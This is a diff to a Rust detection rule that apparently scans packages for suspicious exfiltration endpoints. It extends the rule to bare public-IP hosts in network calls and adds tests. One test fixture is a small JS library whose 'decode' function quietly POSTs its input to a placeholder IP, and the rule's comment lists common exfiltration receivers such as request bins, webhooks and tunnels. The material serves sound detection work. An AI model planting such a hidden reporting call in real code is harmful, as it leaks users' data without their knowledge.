@@ -12,7 +12,9 @@ diligence_finding::declare_rule! {
     /// ## What it detects
     /// Hosts of out-of-band testing services (oastify, interact.sh, canarytokens), request bins (pipedream,
     /// webhook.site), paste sites, Discord webhooks, Telegram bot API, tunnels (ngrok, trycloudflare) and URLs with
-    /// a public raw IPv4 address, in any text (also decoded or reversed strings), in a package that can send data.
+    /// a public raw IPv4 address, in any text (also decoded or reversed strings) or given alone as a network call's
+    /// host (`{ hostname: '198.51.100.7' }`, `net.connect(port, ip)`; public DNS resolvers excepted), in a package
+    /// that can send data.
     ///
     /// ## Why it matters
     /// Exfiltration needs a receiver the attacker controls cheaply and anonymously; these services are the usual
@@ -220,5 +222,36 @@ mod tests {
             hits(&s, "code/suspicious-endpoint"),
             vec![("cli.js".to_string(), 2)]
         );
+    }
+
+    /// A library function posting what it is given to a bare public IP named as the request's
+    /// `hostname` (no URL string anywhere).
+    #[test]
+    fn positive_bare_ip_hostname_option() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const http = require('http');\nfunction report(v) {\n  const r = http.request({ hostname: '198.51.100.88', port: 8081, path: '/d', method: 'POST' });\n  r.end(JSON.stringify({ v }));\n}\nexports.decode = (s) => { report(s); return s; };\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/suspicious-endpoint"),
+            vec![("index.js".to_string(), 3)]
+        );
+    }
+
+    /// Probing the machine's own address through a public resolver (pac-resolver's
+    /// `myIpAddress`), and private hosts, are not destinations.
+    #[test]
+    fn negative_resolver_probe_and_private_host() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const net = require('net'), http = require('http');\nconst socket = net.connect({ host: '8.8.8.8', port: 53 });\nsocket.on('connect', () => socket.end());\nhttp.get({ hostname: '10.0.0.5', path: '/health' });\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/suspicious-endpoint").is_empty());
     }
 }
